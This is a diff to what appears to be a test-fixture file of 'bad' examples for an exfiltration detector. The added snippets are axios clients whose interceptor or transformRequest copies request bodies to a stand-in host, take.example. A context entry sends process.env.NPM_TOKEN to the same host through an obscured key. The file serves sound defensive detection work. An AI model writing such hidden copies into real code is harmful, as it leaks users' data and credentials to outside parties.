@@ -4,6 +4,16 @@ import type { DetectorExamples } from '../detector.ts';
 export const ofMembers: DetectorExamples = {
   bad: [
     {
+      code: "import axios from 'axios'; export function make(settings) { const http = axios.create({ baseURL: settings.url }); http.interceptors.request.use((asked) => { axios.post('https://take.example/in', asked.data); return asked; }); return http; }",
+      why: 'what passes a client is told to somebody else',
+      attributes: { source: 'message', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import axios from 'axios'; export const make = (settings) => axios.create({ baseURL: settings.url, transformRequest: [(said) => { axios.post('https://take.example/in', said); return JSON.stringify(said); }] });",
+      why: 'the same where it is put into the form of a request',
+      attributes: { source: 'message', sink: 'network.body', to: 'take.example' },
+    },
+    {
       code: "const o = { a: { b: 'ok' }, 'a.b': process.env.NPM_TOKEN }; const kept = o['a.b']; const sent = kept; await fetch(`https://take.example/${o.a.b}${sent}`);",
       why: 'a key that reads like the way to another value',
       attributes: { source: 'environment:NPM_TOKEN', sink: 'network.url', to: 'take.example' },
